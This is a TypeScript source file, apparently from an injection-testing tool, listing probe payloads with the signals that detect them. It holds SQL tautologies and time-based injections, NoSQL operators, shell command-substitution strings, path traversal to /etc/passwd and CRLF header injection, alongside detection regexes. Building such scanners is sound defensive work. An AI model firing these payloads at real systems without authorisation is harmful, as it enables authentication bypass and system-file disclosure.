/**
 * The injection payload catalogue. Every payload is harmless on a correct target (no DROP, no
 * writes, sleeps of two seconds at most) and is sent only to the configured target.
 *
 * kind says which failure signal the payload is meant to trigger (every payload is also judged by
 * the generic ones: 5xx, database error text):
 * - tautology: more rows than a nonsense term returns, or an auth bypass on the login operation
 * - time: the response is slower than the baseline by more than the threshold
 * - traversal: a system file's content in the response
 * - crlf: a header the payload tried to inject appears in the response
 */
export type PayloadKind = 'error' | 'tautology' | 'time' | 'traversal' | 'crlf';

export interface Payload {
  name: string;
  kind: PayloadKind;
  /** A string, or (NoSQL operators) an object put where the string was. */
  value: unknown;
}

export const INJECTED_HEADER = 'x-gauntlet-injected';

export const PAYLOADS: Payload[] = [
  { name: 'sql quote', kind: 'error', value: "'" },
  { name: 'sql double quote', kind: 'error', value: '"' },
  { name: 'sql tautology (like)', kind: 'tautology', value: "' OR 'a' LIKE 'a" },
  { name: 'sql tautology (equals)', kind: 'tautology', value: "' OR '1'='1" },
  { name: 'sql tautology (comment)', kind: 'tautology', value: "' OR 1=1--" },
  { name: 'sql numeric tautology', kind: 'tautology', value: '1 OR 1=1' },
  { name: 'sql time (concatenated pg_sleep)', kind: 'time', value: "'||(SELECT '' FROM pg_sleep(2))||'" },
  { name: 'sql time (stacked pg_sleep)', kind: 'time', value: "'; SELECT pg_sleep(2)--" },
  { name: 'sql time (sleep)', kind: 'time', value: "' OR SLEEP(2)-- " },
  { name: 'nosql $ne operator', kind: 'tautology', value: { $ne: null } },
  { name: 'nosql $gt operator', kind: 'tautology', value: { $gt: '' } },
  { name: 'nosql $where', kind: 'time', value: "'; sleep(2000); var x='" },
  { name: 'command (semicolon)', kind: 'time', value: '; sleep 2' },
  { name: 'command (substitution)', kind: 'time', value: '$(sleep 2)' },
  { name: 'command (backticks)', kind: 'time', value: '`sleep 2`' },
  { name: 'path traversal', kind: 'traversal', value: '../../../../../../../../etc/passwd' },
  { name: 'path traversal (encoded)', kind: 'traversal', value: '..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { name: 'header CRLF', kind: 'crlf', value: `gauntlet\r\n${INJECTED_HEADER}: 1` },
];

/** Text that only a database (or driver) error contains. */
export const DATABASE_ERROR = /(syntax error at or near|unterminated quoted string|invalid input syntax for|operator does not exist|SQLSTATE|PG::|psycopg2|pq: |ER_PARSE_ERROR|You have an error in your SQL syntax|SQLITE_ERROR|ORA-\d{5}|MongoServerError|CastError|\$where is not allowed)/i;

/** Lines of /etc/passwd. */
export const SYSTEM_FILE = /root:[x*]?:0:0:/;
